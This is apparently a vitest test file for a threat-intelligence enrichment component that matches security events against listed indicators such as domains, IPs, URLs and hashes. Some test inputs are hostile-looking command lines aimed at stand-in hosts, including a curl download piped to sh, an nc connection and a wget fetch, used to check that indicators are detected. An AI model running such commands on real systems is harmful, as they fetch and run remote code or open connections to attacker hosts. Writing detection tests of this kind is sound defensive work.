import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { enrichmentChain } from "../../src/enrichment/chain.ts";
import { eventObservables } from "../../src/enrichment/event-observables.ts";
import type { Freshness } from "../../src/enrichment/freshness.ts";
import { type Indicator, indicatorKey } from "../../src/enrichment/indicator.ts";
import { IndicatorTable } from "../../src/enrichment/indicator-table.ts";
import { indicators } from "../../src/enrichment/indicators.ts";
import type { JsonMap } from "../../src/events/security-event.ts";
import { makeEvent } from "../events/make-event.ts";

const event = makeEvent();
const table = new IndicatorTable();
const listed = (type: Indicator["type"], value: string, more: Partial<Indicator> = {}) => {
  const one: Indicator = {
    type,
    value,
    feed: "feed",
    threat: "Mirai",
    tags: ["elf"],
    confidence: 75,
    valid_from: null,
    valid_until: null,
    first_seen: event.timestamp - 1_000,
    reference: null,
    ...more,
  };
  table.take(indicatorKey(one), one);
};
listed("domain", "bad.example");
listed("ip", "203.0.113.7", { confidence: 90, threat: null, first_seen: null });
listed("url", "http://files.example/a.sh");
listed("sha256", "ab".repeat(32));
listed("sha1", "cd".repeat(20));

let freshness: Freshness = "current";
const { enrich } = indicators({ table, source: "indicators", freshness: () => freshness });
const values = (details: JsonMap) => {
  const known = enrich(makeEvent(details))?.indicators as JsonMap | undefined;
  const matches = (known?.matches ?? []) as readonly JsonMap[];
  return matches.map(({ value }) => value);
};

describe("The indicators of an event", () => {
  it("say what matched, with source and age, and give plain names", () => {
    expect(enrich(makeEvent({ domain: "cdn.bad.example" }))).toEqual({
      indicators: {
        status: "hit",
        source: "indicators",
        matches: [
          {
            type: "domain",
            value: "bad.example",
            matched: "cdn.bad.example",
            feed: "feed",
            threat: "Mirai",
            confidence: 75,
            tags: ["elf"],
            age_ms: 1_000,
          },
        ],
      },
      indicator: "bad.example",
      indicator_type: "domain",
      indicator_threat: "Mirai",
    });
  });

  it("put the most confident first", () => {
    const context = enrich(makeEvent({ domain: "bad.example", dst_ip: "203.0.113.7" }));
    expect(context).toMatchObject({ indicator: "203.0.113.7", indicator_type: "ip" });
    expect(context).not.toHaveProperty("indicator_threat");
    expect(values({ domain: "bad.example", dst_ip: "203.0.113.7" })).toEqual(["203.0.113.7", "bad.example"]);
  });

  it.each<readonly [string, JsonMap, readonly string[]]>([
    ["the query of a name server", { query: "bad.example." }, ["bad.example"]],
    ["a source address", { src_ip: "203.0.113.7" }, ["203.0.113.7"]],
    ["a URL", { url: "http://files.example/a.sh?x" }, ["http://files.example/a.sh"]],
    [
      "hashes under plain names",
      { sha256: "AB".repeat(32), sha1: "cd".repeat(20) },
      ["ab".repeat(32), "cd".repeat(20)],
    ],
    [
      "hashes of a file as OCSF lists them",
      { file: { hashes: [{ algorithm_id: 3, value: "ab".repeat(32) }] } },
      ["ab".repeat(32)],
    ],
    ["hashes of a file as ECS maps them", { file: { hash: { sha256: "ab".repeat(32) } } }, ["ab".repeat(32)]],
    ["a command line", { cmdline: "curl http://files.example/a.sh|sh" }, ["http://files.example/a.sh"]],
    ["a command line by its other name", { command_line: "curl bad.example" }, ["bad.example"]],
    [
      "arguments that only look like those of the line",
      { command_line: "curl notbad.example", process_args: "bad.example" },
      ["bad.example"],
    ],
    ["Falco's command line", { "proc.cmdline": "nc bad.example 1" }, ["bad.example"]],
    ["arguments in a list", { process_args: ["-c", "wget bad.example/x"] }, ["bad.example"]],
    [
      "Falco's name of an address",
      { "fd.sip.name": "x.bad.example" },
      ["x.bad.example"].map(() => "bad.example"),
    ],
  ])("are sought in %s", (_, details, expected) => {
    expect(values(details)).toEqual(expected);
  });

  it("are not sought in what only sounds alike", () => {
    expect(enrich(makeEvent({ message: "bad.example", domain: "<NA>", sha256: 5, dst_ip: {} }))).toBeNull();
    expect(enrich(makeEvent({ __proto__: { domain: "bad.example" } }))).toBeNull();
  });

  it("are none where nothing is known, and unknown while the table is not whole or old", () => {
    const statusOf = (details: JsonMap) =>
      (enrich(makeEvent(details)) as { indicators: JsonMap }).indicators.status;
    expect(statusOf({ domain: "good.example" })).toBe("none");
    freshness = "loading";
    expect(enrich(makeEvent({ domain: "good.example" }))).toEqual({
      indicators: { status: "loading", source: "indicators" },
    });
    expect(statusOf({ domain: "bad.example" })).toBe("hit");
    freshness = "stale";
    expect(statusOf({ domain: "good.example" })).toBe("stale");
    expect(statusOf({ domain: "bad.example" })).toBe("hit");
    freshness = "current";
  });

  it("can be asked of anything, at a bounded cost", () => {
    const names = [
      "domain",
      "dst_ip",
      "url",
      "hashes",
      "file",
      "cmdline",
      "command_line",
      "process_args",
      "proc.cmdline",
    ];
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom(...names), fc.jsonValue()), (details) => {
        expect(() => enrich(makeEvent(details as JsonMap))).not.toThrow();
      }),
    );
    const long = Array.from({ length: 500 }, (_, n) => `a${n}.${"x.".repeat(100)}example `.repeat(40));
    const lists = Object.fromEntries(names.map((name) => [name, long]));
    const kinds = Object.groupBy(eventObservables(makeEvent(lists)), ({ type }) => type);
    expect(kinds.domain?.length).toBeLessThanOrEqual(32 + 64);
    expect(kinds.ip).toHaveLength(32);
  });

  it("are at most eight, each once however often the event holds it", () => {
    expect(values({ domain: "bad.example", query: "a.bad.example.", cmdline: "curl bad.example" })).toEqual([
      "bad.example",
    ]);
    const names = Array.from({ length: 30 }, (_, n) => `n${n}.many.example`);
    for (const name of names) listed("domain", name);
    expect(values({ cmdline: names.join(" ") })).toEqual(names.slice(0, 8));
  });

  it("take the place of what a producer wrote under their name; plain names of the producer stay", () => {
    const chain = enrichmentChain([indicators({ table, source: "indicators", freshness: () => "current" })]);
    const given = makeEvent(
      { domain: "bad.example" },
      { enrichment: { indicators: "mine", indicator: "own" } },
    );
    expect(chain.pass(given).enrichment).toMatchObject({ indicators: { status: "hit" }, indicator: "own" });
  });
});
